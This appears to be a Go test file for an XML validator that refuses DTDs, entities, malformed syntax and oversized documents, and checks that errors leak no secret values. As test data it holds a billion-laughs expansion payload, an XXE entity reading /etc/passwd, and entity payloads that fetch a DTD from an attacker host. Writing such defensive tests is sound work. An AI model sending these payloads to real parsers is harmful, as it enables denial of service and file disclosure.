package inspect

import (
	"fmt"
	"strings"
	"testing"
)

const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<lolz>&lol9;</lolz>`

// deepXML returns n elements e, one in the other.
func deepXML(n int) string { return strings.Repeat("<e>", n) + strings.Repeat("</e>", n) }

// attrs returns an element a with n attributes.
func attrs(n int) string {
	var b strings.Builder
	b.WriteString("<a")
	for i := range n {
		fmt.Fprintf(&b, ` a%d="%d"`, i, i)
	}
	b.WriteString("/>")
	return b.String()
}

// children returns a root r with n empty children e.
func children(n int) string { return "<r>" + strings.Repeat("<e/>", n) + "</r>" }

func TestCheckXML(t *testing.T) {
	def := DefaultXMLLimits()
	x := strings.Repeat
	path33 := "/e" + x("/e[1]", 32)
	longPath := x("<element-with-a-long-name>", 32) + "&bad;" + x("</element-with-a-long-name>", 32)
	tests := []struct {
		name string
		body string
		want *Violation
	}{
		{"billion laughs is refused at its DOCTYPE", billionLaughs, &Violation{Rule: RuleDTD, Offset: 22}},
		{"an external entity is refused", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>`,
			&Violation{Rule: RuleDTD, Offset: 21}},
		{"a parameter entity is refused", `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.test/x.dtd"> %p;]><r/>`,
			&Violation{Rule: RuleDTD}},
		{"an external subset is refused", `<!DOCTYPE r PUBLIC "-//X//DTD X//EN" "http://attacker.test/x.dtd"><r/>`,
			&Violation{Rule: RuleDTD}},
		{"a DOCTYPE without entities is refused", "<!DOCTYPE order>\n<order/>", &Violation{Rule: RuleDTD}},
		{"a DOCTYPE after the root is refused", "<r/>\n<!DOCTYPE r>", &Violation{Rule: RuleDTD, Offset: 5}},
		{"an entity declaration in an element is refused", `<r><a><!ENTITY x "y"></a></r>`, &Violation{Rule: RuleDTD, Where: "/r/a[1]", Offset: 6}},
		{"an entity declared nowhere is refused", `<r><a>&xxe;</a></r>`, &Violation{Rule: RuleSyntax, Where: "/r/a[1]", Offset: 11}},
		{"an entity in an attribute is refused", `<r a="&xxe;"/>`, &Violation{Rule: RuleSyntax, Offset: 11}},
		{"a character reference to NUL is refused", `<r>&#0;</r>`, &Violation{Rule: RuleSyntax, Where: "/r", Offset: 7}},
		{"a character reference to a surrogate is refused", `<r>&#xD800;</r>`, &Violation{Rule: RuleSyntax, Offset: 3}},
		{"a decimal reference to a surrogate is refused", `<r>&#;&#x;&#57343;</r>`, &Violation{Rule: RuleSyntax, Offset: 10}},
		{"a reference to a surrogate with leading zeros is refused", `<r a="&#x000dC00;"/>`, &Violation{Rule: RuleSyntax, Offset: 6}},
		{"a reference to a surrogate in CDATA is refused too", `<r><![CDATA[&#xD800;]]></r>`, &Violation{Rule: RuleSyntax, Offset: 12}},
		{"references around the surrogates pass", `<r a="&#xD7FF;">&#xE000;&#x10000;&#x1D800;&amp;#xD800;</r>`, nil},
		{"predefined entities and character references pass", `<r a="&lt;&#x41;&apos;">&amp;&#65;&quot;&gt;</r>`, nil},

		{"32 nested elements pass", deepXML(32), nil},
		{"33 nested elements are refused at the 33rd", deepXML(33), &Violation{Rule: RuleMaxDepth, Where: path33, Limit: 32, Offset: 32 * 3}},
		{"64 attributes pass", attrs(64), nil},
		{"65 attributes are refused", attrs(65), &Violation{Rule: RuleMaxAttributes, Where: "/a", Limit: 64}},
		{"namespace declarations count as attributes", strings.Replace(attrs(64), "<a", `<a xmlns="urn:x"`, 1),
			&Violation{Rule: RuleMaxAttributes, Where: "/a", Limit: 64}},
		{"100000 elements pass", children(99999), nil},
		{"100001 elements are refused at the last", children(100000),
			&Violation{Rule: RuleMaxElements, Where: "/r/e[100000]", Limit: 100000, Offset: int64(3 + 4*99999)}},

		{"a 65536-byte text passes", "<r>" + x("x", 65536) + "</r>", nil},
		{"a 65537-byte text is refused", "<r><a>" + x("x", 65537) + "</a></r>", &Violation{Rule: RuleMaxText, Where: "/r/a[1]", Limit: 65536, Offset: 6}},
		{"text counts decoded: 65536 references pass", "<r>" + x("&amp;", 65536) + "</r>", nil},
		{"text counts decoded: 65537 references are refused", "<r>" + x("&#x41;", 65537) + "</r>", &Violation{Rule: RuleMaxText, Where: "/r", Limit: 65536, Offset: 3}},
		{"a 65537-byte CDATA section is refused", "<r><![CDATA[" + x("<", 65537) + "]]></r>", &Violation{Rule: RuleMaxText, Where: "/r", Limit: 65536, Offset: 3}},
		{"CDATA counts with the text around it", "<r>" + x("x", 40000) + "<![CDATA[" + x("y", 30000) + "]]></r>",
			&Violation{Rule: RuleMaxText, Where: "/r", Limit: 65536, Offset: 40003}},
		{"a comment does not cut a text", "<r>" + x("x", 40000) + "<!-- -->" + x("y", 30000) + "</r>",
			&Violation{Rule: RuleMaxText, Where: "/r", Limit: 65536, Offset: 40011}},
		{"a processing instruction does not cut a text", "<r>" + x("x", 40000) + "<?pi?>" + x("y", 30000) + "</r>",
			&Violation{Rule: RuleMaxText, Where: "/r", Limit: 65536, Offset: 40009}},
		{"an element cuts a text", "<r>" + x("x", 40000) + "<b/>" + x("y", 40000) + "</r>", nil},
		{"an end tag cuts a text", "<r><b>" + x("x", 40000) + "</b>" + x("y", 40000) + "</r>", nil},
		{"a 65537-byte attribute value is refused", `<r><a v="` + x("v", 65537) + `"/></r>`, &Violation{Rule: RuleMaxText, Where: "/r/a[1]/@v", Limit: 65536, Offset: 3}},
		{"a 65536-byte attribute value passes", `<r v="` + x("v", 65536) + `"/>`, nil},

		{"mismatched tags are refused", `<r><a></b></r>`, &Violation{Rule: RuleSyntax, Where: "/r/a[1]", Offset: 10}},
		{"crossed tags are refused", `<r><a><b></a></b></r>`, &Violation{Rule: RuleSyntax, Where: "/r/a[1]/b[1]", Offset: 13}},
		{"an end tag with another prefix is refused", `<p:a xmlns:p="urn:x" xmlns:q="urn:x"></q:a>`, &Violation{Rule: RuleSyntax, Where: "/a", Offset: 43}},
		{"an unclosed element is refused", `<r><a>`, &Violation{Rule: RuleSyntax, Where: "/r/a[1]", Offset: 6}},
		{"a cut tag is refused", `<r><a`, &Violation{Rule: RuleSyntax, Where: "/r", Offset: 5}},
		{"an unquoted attribute is refused", `<r a=1/>`, &Violation{Rule: RuleSyntax, Offset: 6}},
		{"an attribute without a value is refused", `<r a/>`, &Violation{Rule: RuleSyntax, Offset: 5}},
		{"a '<' in text is refused", `<r>a<1</r>`, &Violation{Rule: RuleSyntax, Where: "/r", Offset: 6}},
		{"']]>' in text is refused", `<r>a]]>b</r>`, &Violation{Rule: RuleSyntax, Where: "/r", Offset: 7}},
		{"a control character is refused", "<r>\x01</r>", &Violation{Rule: RuleSyntax, Where: "/r", Offset: 4}},
		{"a duplicate attribute is refused", `<r><a b="1" b="2"/></r>`, &Violation{Rule: RuleDuplicateAttribute, Where: "/r/a[1]/@b", Offset: 3}},
		{"a duplicate attribute through two prefixes is refused", `<r xmlns:p="urn:x" xmlns:q="urn:x" p:b="1" q:b="2"/>`,
			&Violation{Rule: RuleDuplicateAttribute, Where: "/r/@b"}},
		{"one name in two namespaces is no duplicate", `<r xmlns:p="urn:x" b="1" p:b="2"/>`, nil},
		{"two roots are refused", `<a/><b/>`, &Violation{Rule: RuleSyntax, Offset: 4}},
		{"text after the root is refused", "<a/>\nx", &Violation{Rule: RuleSyntax, Offset: 4}},
		{"text before the root is refused", "x<a/>", &Violation{Rule: RuleSyntax}},
		{"an empty body is refused", "", &Violation{Rule: RuleSyntax}},
		{"whitespace only is refused", " \n", &Violation{Rule: RuleSyntax, Offset: 2}},
		{"a comment only is refused", "<!-- c -->", &Violation{Rule: RuleSyntax, Offset: 10}},
		{"a declaration only is refused", `<?xml version="1.0"?>`, &Violation{Rule: RuleSyntax, Offset: 21}},
		{"a declaration not first is refused", ` <?xml version="1.0"?><a/>`, &Violation{Rule: RuleSyntax, Offset: 1}},
		{"a declaration in the root is refused", `<a><?xml version="1.0"?></a>`, &Violation{Rule: RuleSyntax, Where: "/a", Offset: 3}},
		{"a declaration in capitals is refused", `<?XML version="1.0"?><a/>`, &Violation{Rule: RuleSyntax}},
		{"another encoding is refused", `<?xml version="1.0" encoding="ISO-8859-1"?><a/>`, &Violation{Rule: RuleSyntax, Offset: 43}},
		{"XML 1.1 is refused", `<?xml version="1.1"?><a/>`, &Violation{Rule: RuleSyntax, Offset: 21}},
		{"invalid UTF-8 in text is refused", "<a>caf\xe9</a>", &Violation{Rule: RuleInvalidUTF8, Offset: 6}},
		{"invalid UTF-8 in a comment is refused", "<a><!-- \xff --></a>", &Violation{Rule: RuleInvalidUTF8, Offset: 8}},
		{"UTF-16 is refused", "\xff\xfe<\x00a\x00/\x00>\x00", &Violation{Rule: RuleInvalidUTF8}},

		{"a document with everything allowed passes", "\ufeff<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<!-- c -->\n" +
			`<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body><m:order xmlns:m="urn:shop" m:id="1">` +
			"<item qty='2'>caf\u00e9 &amp; cr\u00e8me<![CDATA[<raw>]]></item><?pi data?><item/></m:order></s:Body></s:Envelope>\n<!-- end -->\n", nil},
		{"a byte order mark passes", "\ufeff<a/>", nil},
		{"a byte order mark after whitespace is refused", " \ufeff<a/>", &Violation{Rule: RuleSyntax}},

		{"the path counts every child element", `<order><id/><items><item/><note/><item><name>&bad;</name></item></items></order>`,
			&Violation{Rule: RuleSyntax, Where: "/order/items[2]/item[3]/name[1]", Offset: 50}},
		{"the path is cut", longPath, &Violation{Rule: RuleSyntax, Where: clip(strings.TrimSuffix("/element-with-a-long-name"+x("/element-with-a-long-name[1]", 31), "")), Offset: int64(len("<element-with-a-long-name>")*32 + 5)}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := def.CheckXML([]byte(tt.body))
			if !sameViolation(got, tt.want) {
				t.Errorf("got %v, want %v", got, tt.want)
			}
		})
	}
}

func TestCheckXMLUsesItsLimits(t *testing.T) {
	l := XMLLimits{MaxDepth: 2, MaxAttributes: 1, MaxElements: 3, MaxText: 3}
	tests := []struct {
		body string
		want *Violation
	}{
		{`<r a="abc"><b>xyz</b><c/></r>`, nil},
		{`<r><b><c/></b></r>`, &Violation{Rule: RuleMaxDepth, Where: "/r/b[1]/c[1]", Limit: 2, Offset: 6}},
		{`<r a="1" b="2"/>`, &Violation{Rule: RuleMaxAttributes, Where: "/r", Limit: 1}},
		{`<r><a/><b/><c/></r>`, &Violation{Rule: RuleMaxElements, Where: "/r/c[3]", Limit: 3, Offset: 11}},
		{`<r>abcd</r>`, &Violation{Rule: RuleMaxText, Where: "/r", Limit: 3, Offset: 3}},
		{`<r a="abcd"/>`, &Violation{Rule: RuleMaxText, Where: "/r/@a", Limit: 3}},
	}
	for _, tt := range tests {
		if got := l.CheckXML([]byte(tt.body)); !sameViolation(got, tt.want) {
			t.Errorf("%s: got %v, want %v", tt.body, got, tt.want)
		}
	}
}

func TestXMLViolationHoldsNoValue(t *testing.T) {
	const secret = "s3cr3t-v4lue"
	for _, body := range []string{
		`<r><token>` + secret + `</token><token a="` + secret + `" a="` + secret + `"/></r>`,
		`<r><token>` + secret + "&" + secret + `;</token></r>`,
		`<r><token>` + secret + strings.Repeat("x", 65536) + `</token></r>`,
		`<r><token v="` + secret + strings.Repeat("x", 65536) + `"/></r>`,
		`<!DOCTYPE r [<!ENTITY ` + secret + ` "` + secret + `">]><r/>`,
		`<r>` + secret + `</r>` + secret,
		"<r>" + secret + "\xff</r>",
	} {
		v := DefaultXMLLimits().CheckXML([]byte(body))
		if v == nil {
			t.Fatalf("%.40q... accepted", body)
		}
		if s := v.Error(); strings.Contains(s, "s3cr") {
			t.Errorf("%s: holds the body's value", s)
		}
	}
}

func TestXMLLimitsValidate(t *testing.T) {
	if err := DefaultXMLLimits().Validate(); err != nil {
		t.Fatalf("defaults: %v", err)
	}
	for _, tt := range []struct {
		set  func(*XMLLimits)
		want string
	}{
		{func(l *XMLLimits) { l.MaxDepth = 0 }, "inspect: XML MaxDepth is 0: want a positive number"},
		{func(l *XMLLimits) { l.MaxAttributes = -1 }, "inspect: XML MaxAttributes is -1: want a positive number"},
		{func(l *XMLLimits) { l.MaxElements = 0 }, "inspect: XML MaxElements is 0: want a positive number"},
		{func(l *XMLLimits) { l.MaxText = 0 }, "inspect: XML MaxText is 0: want a positive number"},
	} {
		l := DefaultXMLLimits()
		tt.set(&l)
		if err := l.Validate(); err == nil || err.Error() != tt.want {
			t.Errorf("%+v: %v, want %s", l, err, tt.want)
		}
	}
}
